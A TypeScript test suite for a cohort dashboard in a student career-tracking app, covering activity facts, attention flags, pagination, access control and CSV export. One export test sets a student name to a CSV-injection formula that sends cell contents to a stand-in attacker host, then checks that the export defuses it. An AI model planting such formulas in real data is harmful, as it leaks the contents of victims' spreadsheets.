import { randomUUID } from "node:crypto";
import { and, eq } from "drizzle-orm";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { getDb } from "@/db/client";
import {
  auditEvents,
  cohortAdvisors,
  cohortGoals,
  cohorts,
  cohortStudents,
  journalEntries,
  studentProfiles,
} from "@/db/schema/index";
import { createSyntheticCohort } from "@/db/synthetic-cohort";
import {
  DASHBOARD_PAGE_SIZE,
  exportCohortDashboardCsv,
  getCohortDashboard,
} from "@/lib/data/advisor/cohorts/dashboard";
import { loadCohortFacts } from "@/lib/data/internal/cohort-facts";
import { DEFAULT_DASHBOARD_VIEW, type DashboardView } from "@/lib/domain/cohort-dashboard";
import { assignAdvisor, createCohort, enrolStudent } from "../factories/cohorts";
import { signInAs } from "../factories/sessions";
import {
  createCareerField,
  createContact,
  createFollowUp,
  createInterview,
  createOrganization,
  createOutreachAttempt,
} from "../factories/student-records";
import { createUser } from "../factories/users";
import { expectNotFound } from "../support/next-errors";
import { countQueries } from "../support/query-counter";

const NOW = new Date("2026-02-11T15:00:00Z"); // a Wednesday; already Thursday 12 Feb in Tokyo
const TERM = { startsOn: "2026-01-05", endsOn: "2026-04-30" }; // starts on a Monday

/** createdAt and updatedAt at one instant, so activity dates do not depend on when the test runs. */
const stamped = (iso: string) => ({ createdAt: new Date(iso), updatedAt: new Date(iso) });
const created = (iso: string) => ({ createdAt: new Date(iso) });

/**
 * A small cohort built by hand, every record dated, so each fact can be worked out on paper:
 *
 * - Avery (profile in Asia/Tokyo): a bit of everything. 7 contacts; 5 original outreach messages and one
 *   follow-up attempt; 3 completed interviews (thanked on the day, thanked 10 days late, not thanked) and
 *   one scheduled; one outreach left unanswered and never followed up.
 * - Blake (no profile, so UTC): an organization and a contact in the first week, then nothing.
 * - Casey: enrolled, never logged anything.
 * - Dana: three contacts and a journal entry, nothing to worry about.
 */
async function arrangeSmallCohort() {
  const advisor = await createUser({ role: "advisor", name: "Avery's Advisor" });
  const cohort = await createCohort({ name: "Winter Careers", ...TERM });
  await assignAdvisor(cohort.id, advisor.id);
  const [avery, blake, casey, dana] = await Promise.all(
    ["Avery Active", "Blake Quiet", "Casey Newcomer", "Dana Diligent"].map((name) =>
      createUser({ role: "student", name }),
    ),
  );
  for (const student of [avery!, blake!, casey!, dana!]) await enrolStudent(cohort.id, student.id);
  await getDb()
    .update(cohortStudents)
    .set({ joinedAt: new Date("2026-01-05T09:00:00Z") })
    .where(eq(cohortStudents.cohortId, cohort.id));
  await getDb()
    .insert(cohortGoals)
    .values([
      { cohortId: cohort.id, metric: "contacts_identified", target: 3, dueOn: "2026-01-31" },
      { cohortId: cohort.id, metric: "thank_you_within_days", target: 2, dueOn: null },
    ]);

  // Avery.
  const a = avery!.id;
  await getDb()
    .insert(studentProfiles)
    .values({
      studentId: a,
      timeZone: "Asia/Tokyo",
      elevatorPitch: "Curious about policy work.",
      updatedAt: new Date("2026-01-05T09:00:00Z"),
    });
  await createCareerField(a, stamped("2026-01-05T10:00:00Z"));
  await createOrganization(a, stamped("2026-01-05T11:00:00Z"));
  const [c1, c2, c3, c4, c5, c6, c7] = await Promise.all(
    [1, 2, 3, 4, 5, 6, 7].map((n) =>
      createContact(a, { name: `Avery contact ${n}`, ...stamped("2026-01-06T10:00:00Z") }),
    ),
  );
  // c1: replied, interviewed, thanked the same evening.
  await createOutreachAttempt(a, c1!.id, {
    sentOn: "2026-01-06",
    reply: "replied",
    repliedOn: "2026-01-07",
    ...stamped("2026-01-06T12:00:00Z"),
  });
  // c2: no reply, but the latest attempt is a follow-up: the student did follow up.
  await createOutreachAttempt(a, c2!.id, { sentOn: "2026-01-07", ...stamped("2026-01-07T12:00:00Z") });
  await createOutreachAttempt(a, c2!.id, {
    sentOn: "2026-01-14",
    isFollowUp: true,
    ...stamped("2026-01-14T12:00:00Z"),
  });
  // c3: no reply and never followed up.
  await createOutreachAttempt(a, c3!.id, { sentOn: "2026-01-20", ...stamped("2026-01-20T12:00:00Z") });
  // c4: replied, no interview (yet).
  await createOutreachAttempt(a, c4!.id, {
    sentOn: "2026-01-08",
    reply: "replied",
    repliedOn: "2026-01-09",
    ...stamped("2026-01-08T12:00:00Z"),
  });
  // c5: no reply logged, but an interview followed anyway.
  await createOutreachAttempt(a, c5!.id, { sentOn: "2026-01-09", ...stamped("2026-01-09T12:00:00Z") });

  // 17:00 on 12 Jan in Los Angeles, already 10:00 on 13 Jan in Tokyo: the interview's day is the 12th.
  const i1 = await createInterview(a, c1!.id, {
    startsAt: new Date("2026-01-13T01:00:00Z"),
    timeZone: "America/Los_Angeles",
    status: "completed",
    createdAt: new Date("2026-01-07T12:00:00Z"),
    updatedAt: new Date("2026-01-13T02:00:00Z"),
  });
  // 10:00 on 20 Jan in New York (midnight of the 21st in Tokyo).
  const i5 = await createInterview(a, c5!.id, {
    startsAt: new Date("2026-01-20T15:00:00Z"),
    timeZone: "America/New_York",
    status: "completed",
    createdAt: new Date("2026-01-12T12:00:00Z"),
    updatedAt: new Date("2026-01-20T16:00:00Z"),
  });
  await createInterview(a, c6!.id, {
    startsAt: new Date("2026-02-20T15:00:00Z"),
    status: "scheduled",
    ...stamped("2026-02-02T12:00:00Z"),
  });
  await createInterview(a, c7!.id, {
    startsAt: new Date("2026-02-01T15:00:00Z"),
    timeZone: "America/New_York",
    status: "completed",
    createdAt: new Date("2026-01-26T12:00:00Z"),
    updatedAt: new Date("2026-02-01T16:00:00Z"),
  });
  await createFollowUp(a, c1!.id, {
    kind: "thank_you",
    interviewId: i1.id,
    sentOn: "2026-01-12",
    ...created("2026-01-13T03:00:00Z"),
  });
  await createFollowUp(a, c5!.id, {
    kind: "thank_you",
    interviewId: i5.id,
    sentOn: "2026-01-30",
    ...created("2026-01-30T10:00:00Z"),
  });
  await createFollowUp(a, c4!.id, {
    kind: "update",
    sentOn: "2026-01-21",
    ...created("2026-01-21T10:00:00Z"),
  });
  await getDb()
    .insert(journalEntries)
    .values({
      studentId: a,
      entryOn: "2026-02-09",
      learned: "Ask for advice.",
      ...created("2026-02-09T12:00:00Z"),
    });

  // Blake: a week of work before the term (not charted), one in its first week, then silence.
  const b = blake!.id;
  await createOrganization(b, stamped("2025-12-20T10:00:00Z"));
  await createOrganization(b, stamped("2026-01-06T10:00:00Z"));
  await createContact(b, stamped("2026-01-07T10:00:00Z"));

  // Dana.
  const d = dana!.id;
  for (const n of [1, 2, 3])
    await createContact(d, { name: `Dana contact ${n}`, ...stamped("2026-01-20T10:00:00Z") });
  await getDb()
    .insert(journalEntries)
    .values({
      studentId: d,
      entryOn: "2026-02-10",
      learned: "Keep going.",
      ...created("2026-02-10T10:00:00Z"),
    });

  return { advisor, cohort, avery: avery!, blake: blake!, casey: casey!, dana: dana! };
}

const view = (overrides: Partial<DashboardView> = {}): DashboardView => ({
  ...DEFAULT_DASHBOARD_VIEW,
  ...overrides,
});

let labels = 0;
/** A synthetic cohort with its advisor signed in. */
async function syntheticCohort(students: number) {
  labels += 1;
  const synthetic = await createSyntheticCohort(getDb(), {
    students,
    label: `t${labels}-${randomUUID().slice(0, 8)}`,
    today: NOW,
    seed: labels,
  });
  await signInAs(synthetic.advisorId);
  return synthetic;
}

describe("the cohort dashboard's queries", () => {
  it("are as many for 300 students as for 10", { timeout: 60_000 }, async () => {
    const small = await syntheticCohort(10);
    const dashboardSmall = await countQueries(() => getCohortDashboard(small.cohortId, view(), 1, NOW));
    const exportSmall = await countQueries(() => exportCohortDashboardCsv(small.cohortId, view(), NOW));

    const large = await syntheticCohort(300);
    const dashboardLarge = await countQueries(() => getCohortDashboard(large.cohortId, view(), 1, NOW));
    const exportLarge = await countQueries(() => exportCohortDashboardCsv(large.cohortId, view(), NOW));

    console.log(
      `cohort dashboard queries: getCohortDashboard ${dashboardSmall.queries} (10 students) / ` +
        `${dashboardLarge.queries} (300 students); exportCohortDashboardCsv ${exportSmall.queries} / ` +
        `${exportLarge.queries}`,
    );
    expect(dashboardSmall.result.studentCount).toBe(10);
    expect(dashboardLarge.result.studentCount).toBe(300);
    expect(dashboardLarge.queries).toBe(dashboardSmall.queries);
    expect(exportLarge.queries).toBe(exportSmall.queries);
    expect(dashboardSmall.queries).toBeLessThanOrEqual(12);
    // A filtered, sorted later page costs the same.
    const filtered = await countQueries(() =>
      getCohortDashboard(large.cohortId, view({ reason: "any", sort: "stage", direction: "desc" }), 3, NOW),
    );
    expect(filtered.queries).toBe(dashboardLarge.queries);
  });
});

describe("the facts behind the dashboard", () => {
  it("counts each student's work, dates and open loops", async () => {
    const { cohort, avery, blake, casey, dana } = await arrangeSmallCohort();
    const facts = await loadCohortFacts(cohort.id, cohort.startsOn);
    const byName = (name: string) => facts.students.find((s) => s.name === name)!;
    const sorted = <T>(xs: readonly T[]) => [...xs].sort();

    expect(facts.students.map((s) => s.name)).toEqual([
      "Avery Active",
      "Blake Quiet",
      "Casey Newcomer",
      "Dana Diligent",
    ]);
    const a = byName("Avery Active");
    expect({ ...a, thankYouDelays: sorted(a.thankYouDelays) }).toEqual({
      studentId: avery.id,
      name: "Avery Active",
      email: avery.email,
      timeZone: "Asia/Tokyo",
      joinedAt: new Date("2026-01-05T09:00:00Z"),
      lastActivityAt: new Date("2026-02-09T12:00:00Z"),
      researchItems: 2,
      contactsIdentified: 7,
      preparationItems: 1,
      pitchWritten: true,
      // Five originals; the follow-up attempt to c2 is not new outreach.
      outreachSent: 5,
      interviewsCompleted: 3,
      thankYousSent: 2,
      followUpsSent: 3,
      // Each interview's day where it happened: 12 Jan in Los Angeles (thanked that day), 20 Jan in New York.
      thankYouDelays: [0, 10],
      interviewsAwaitingThankYou: ["2026-02-01"],
      // c3 only: c2's latest attempt is a follow-up, c4 replied, c5 led to an interview.
      outreachAwaitingFollowUp: ["2026-01-20"],
    });
    expect(byName("Blake Quiet")).toMatchObject({
      studentId: blake.id,
      timeZone: null,
      lastActivityAt: new Date("2026-01-07T10:00:00Z"),
      researchItems: 2,
      contactsIdentified: 1,
      preparationItems: 0,
      outreachSent: 0,
      interviewsCompleted: 0,
      thankYouDelays: [],
      interviewsAwaitingThankYou: [],
      outreachAwaitingFollowUp: [],
    });
    expect(byName("Casey Newcomer")).toMatchObject({
      studentId: casey.id,
      lastActivityAt: null,
      researchItems: 0,
      contactsIdentified: 0,
      preparationItems: 0,
      outreachSent: 0,
      interviewsCompleted: 0,
      thankYousSent: 0,
      followUpsSent: 0,
    });
    expect(byName("Dana Diligent")).toMatchObject({
      studentId: dana.id,
      contactsIdentified: 3,
      lastActivityAt: new Date("2026-02-10T10:00:00Z"),
    });

    // Records created per Monday week from the term's start (Blake's December organization is before it).
    expect(facts.weeklyActivity).toEqual([
      // Avery: organization, 7 contacts, 4 outreach, 1 interview; Blake: organization, contact.
      { weekStart: "2026-01-05", count: 15 },
      // Avery: follow-up attempt, interview, thank-you.
      { weekStart: "2026-01-12", count: 3 },
      // Avery: outreach, update; Dana: 3 contacts.
      { weekStart: "2026-01-19", count: 5 },
      // Avery: interview, thank-you.
      { weekStart: "2026-01-26", count: 2 },
      // Avery: the scheduled interview.
      { weekStart: "2026-02-02", count: 1 },
      // Avery's and Dana's journal entries.
      { weekStart: "2026-02-09", count: 2 },
    ]);
  });

  it("lists who needs attention and why, filters and sorts the table", async () => {
    const { advisor, cohort } = await arrangeSmallCohort();
    await signInAs(advisor.id);
    const dashboard = await getCohortDashboard(cohort.id, view(), 1, NOW);

    expect(dashboard.studentCount).toBe(4);
    const reasons = Object.fromEntries(
      dashboard.rows
        .filter((row) => row.attention.length > 0)
        .map((row) => [row.name, row.attention.map((r) => r.kind)]),
    );
    expect(reasons).toEqual({
      "Avery Active": ["thank-you-overdue", "outreach-without-follow-up"],
      "Blake Quiet": ["inactive", "behind-on-goal"],
      "Casey Newcomer": ["inactive", "behind-on-goal"],
    });
    const attentionOf = (name: string) => dashboard.rows.find((r) => r.name === name)!.attention;
    expect(attentionOf("Avery Active")[0]).toMatchObject({
      kind: "thank-you-overdue",
      count: 1,
      oldestInterviewOn: "2026-02-01",
    });
    expect(attentionOf("Blake Quiet")[0]).toMatchObject({
      kind: "inactive",
      lastActiveOn: "2026-01-07",
      days: 35,
    });
    expect(attentionOf("Casey Newcomer")[0]).toMatchObject({
      kind: "inactive",
      lastActiveOn: null,
      days: 37,
    });
    // The summary band and the grouped list: each student once per reason.
    expect([dashboard.summary.onTrack, dashboard.summary.needsAttention]).toEqual([1, 3]);
    expect(dashboard.summary.groups.map((g) => [g.kind, g.count, g.first.map((s) => s.name)])).toEqual([
      ["inactive", 2, ["Casey Newcomer", "Blake Quiet"]],
      ["thank-you-overdue", 1, ["Avery Active"]],
      ["outreach-without-follow-up", 1, ["Avery Active"]],
      // Casey is 3 contacts short of the goal, Blake 2: the furthest behind first.
      ["behind-on-goal", 2, ["Casey Newcomer", "Blake Quiet"]],
    ]);
    // The current step, the rule of each student's own tracker: Blake has no pitch yet, Dana no research.
    expect(dashboard.rows.map((r) => [r.name, r.stage])).toEqual([
      ["Avery Active", "follow-up"],
      ["Blake Quiet", "prepare"],
      ["Casey Newcomer", "research"],
      ["Dana Diligent", "research"],
    ]);

    const avery = dashboard.rows.find((r) => r.name === "Avery Active")!;
    // On time by the 7-day rule: the same-day note; late: the 10-day one; missing: 1 Feb's.
    expect(avery.thankYous).toEqual({ onTime: 1, late: 1, missing: 1, pending: 0 });
    expect(avery.goals.map((g) => g.progressText)).toEqual([
      "7 of 3 contacts identified",
      "1 of 3 thank-yous within 2 days",
    ]);
    expect(dashboard.goalSummaries.map((g) => [g.met, g.behind])).toEqual([
      [2, 2],
      [0, 0],
    ]);
    expect(dashboard.weeks.map((w) => [w.weekStart, w.count])).toEqual([
      ["2026-01-05", 15],
      ["2026-01-12", 3],
      ["2026-01-19", 5],
      ["2026-01-26", 2],
      ["2026-02-02", 1],
      ["2026-02-09", 2],
    ]);

    const flagged = await getCohortDashboard(cohort.id, view({ reason: "any" }), 1, NOW);
    expect(flagged.matching).toBe(3);
    expect(flagged.rows.map((r) => r.name)).toEqual(["Avery Active", "Blake Quiet", "Casey Newcomer"]);

    const byInterviews = await getCohortDashboard(
      cohort.id,
      view({ sort: "interviews", direction: "desc" }),
      1,
      NOW,
    );
    const quietIdentifiers = await getCohortDashboard(
      cohort.id,
      view({ reason: "inactive", stage: "prepare" }),
      1,
      NOW,
    );
    expect(quietIdentifiers.rows.map((r) => r.name)).toEqual(["Blake Quiet"]);
    const byStage = await getCohortDashboard(cohort.id, view({ sort: "stage", direction: "asc" }), 1, NOW);
    expect(byStage.rows.map((r) => r.name)).toEqual([
      "Casey Newcomer",
      "Dana Diligent",
      "Blake Quiet",
      "Avery Active",
    ]);
    const behind = await getCohortDashboard(cohort.id, view({ goal: "behind" }), 1, NOW);
    expect(behind.rows.map((r) => r.name)).toEqual(["Blake Quiet", "Casey Newcomer"]);

    expect(byInterviews.rows.map((r) => [r.name, r.interviewsCompleted])).toEqual([
      ["Avery Active", 3],
      ["Blake Quiet", 0],
      ["Casey Newcomer", 0],
      ["Dana Diligent", 0],
    ]);
  });

  it(`shows ${DASHBOARD_PAGE_SIZE} students a page, and exports them all`, { timeout: 30_000 }, async () => {
    const { cohortId } = await syntheticCohort(60);
    const pageCount = Math.ceil(60 / DASHBOARD_PAGE_SIZE);
    expect(pageCount).toBeGreaterThan(1);
    const pages = [];
    for (let page = 1; page <= pageCount; page++) {
      pages.push(
        await getCohortDashboard(cohortId, view({ sort: "contacts", direction: "desc" }), page, NOW),
      );
    }
    expect(pages.map((p) => [p.studentCount, p.matching, p.pageCount])).toEqual(
      pages.map(() => [60, 60, pageCount]),
    );
    expect(pages.map((p) => p.rows.length)).toEqual(
      pages.map((_, i) => Math.min(DASHBOARD_PAGE_SIZE, 60 - i * DASHBOARD_PAGE_SIZE)),
    );
    const rows = pages.flatMap((p) => p.rows);
    expect(new Set(rows.map((r) => r.studentId)).size).toBe(60);
    // The sort runs across pages, not within each.
    const contacts = rows.map((r) => r.contactsIdentified);
    expect(contacts).toEqual([...contacts].sort((a, b) => b - a));
    // The export is every student, not one page.
    const { csv } = await exportCohortDashboardCsv(cohortId, view(), NOW);
    expect(csv.slice(1).split("\r\n")).toHaveLength(1 + 60);
    // Past the end (or before the start), the nearest page.
    expect((await getCohortDashboard(cohortId, view(), 99, NOW)).page).toBe(pageCount);
    expect((await getCohortDashboard(cohortId, view(), 0, NOW)).page).toBe(1);
  });
});

describe("who may see a cohort's dashboard", () => {
  async function arrange() {
    const advisor = await createUser({ role: "advisor" });
    const student = await createUser({ role: "student" });
    const cohort = await createCohort();
    await assignAdvisor(cohort.id, advisor.id);
    await enrolStudent(cohort.id, student.id);
    return { advisor, student, cohort };
  }
  type Arranged = Awaited<ReturnType<typeof arrange>>;
  const cases: { who: string; setup: (a: Arranged) => Promise<{ userId: string; cohortId: string }> }[] = [
    {
      who: "an advisor not assigned to the cohort",
      setup: async ({ cohort }) => ({
        userId: (await createUser({ role: "advisor" })).id,
        cohortId: cohort.id,
      }),
    },
    {
      who: "a student of the cohort",
      setup: async ({ cohort, student }) => ({ userId: student.id, cohortId: cohort.id }),
    },
    {
      who: "an admin",
      setup: async ({ cohort }) => ({
        userId: (await createUser({ role: "admin" })).id,
        cohortId: cohort.id,
      }),
    },
    {
      who: "the assigned advisor once the cohort is archived",
      setup: async ({ advisor, cohort }) => {
        await getDb().update(cohorts).set({ archivedAt: new Date() }).where(eq(cohorts.id, cohort.id));
        return { userId: advisor.id, cohortId: cohort.id };
      },
    },
    {
      who: "the assigned advisor asking for an unknown cohort",
      setup: async ({ advisor }) => ({ userId: advisor.id, cohortId: randomUUID() }),
    },
  ];

  it.each(cases)("answers $who with a 404 and audits nothing", async ({ setup }) => {
    const arranged = await arrange();
    const { userId, cohortId } = await setup(arranged);
    await signInAs(userId);
    await expectNotFound(getCohortDashboard(cohortId, view(), 1, NOW));
    await expectNotFound(exportCohortDashboardCsv(cohortId, view(), NOW));
    expect(await exportAuditRows(arranged.cohort.id)).toEqual([]);
  });

  it("takes an unassignment into account on the advisor's next call", async () => {
    const { advisor, cohort } = await arrange();
    await signInAs(advisor.id);
    expect((await getCohortDashboard(cohort.id, view(), 1, NOW)).studentCount).toBe(1);
    await getDb()
      .delete(cohortAdvisors)
      .where(and(eq(cohortAdvisors.cohortId, cohort.id), eq(cohortAdvisors.advisorId, advisor.id)));
    await expectNotFound(getCohortDashboard(cohort.id, view(), 1, NOW));
    await expectNotFound(exportCohortDashboardCsv(cohort.id, view(), NOW));
  });
});

function exportAuditRows(cohortId: string) {
  return getDb()
    .select({
      actorId: auditEvents.actorId,
      actorRole: auditEvents.actorRole,
      action: auditEvents.action,
      subjectUserId: auditEvents.subjectUserId,
      basisCohortId: auditEvents.basisCohortId,
    })
    .from(auditEvents)
    .where(eq(auditEvents.basisCohortId, cohortId));
}

describe("the dashboard export", () => {
  it("writes a CSV line per student, defuses formulas and audits each student once", async () => {
    const { advisor, cohort, avery, blake, casey, dana } = await arrangeSmallCohort();
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
    const mallory = await createUser({ role: "student", name: formula });
    await enrolStudent(cohort.id, mallory.id);
    await signInAs(advisor.id);

    const { filename, csv } = await exportCohortDashboardCsv(cohort.id, view(), NOW);
    expect(filename).toBe("fieldnotes-winter-careers-2026-02-11.csv");
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const lines = csv.slice(1).split("\r\n");
    expect(lines).toHaveLength(1 + 5);
    const parsed = Papa.parse<string[]>(csv.slice(1), { newline: "\r\n" });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header!.slice(0, 2)).toEqual(["Name", "Email"]);
    const names = rows.map((row) => row[0]);
    expect(names).toContain(`'${formula}`);
    expect(names.filter((name) => /^[=+\-@\t\r]/.test(name!))).toEqual([]);
    expect(rows.find((row) => row[0] === "Avery Active")!.slice(2, 5)).toEqual(["7", "5", "3"]);

    const audit = await exportAuditRows(cohort.id);
    expect(audit).toHaveLength(5);
    expect(new Set(audit.map((row) => row.subjectUserId))).toEqual(
      new Set([avery.id, blake.id, casey.id, dana.id, mallory.id]),
    );
    for (const row of audit) {
      expect(row).toMatchObject({
        actorId: advisor.id,
        actorRole: "advisor",
        action: "cohort.export",
        basisCohortId: cohort.id,
      });
    }
  });
});
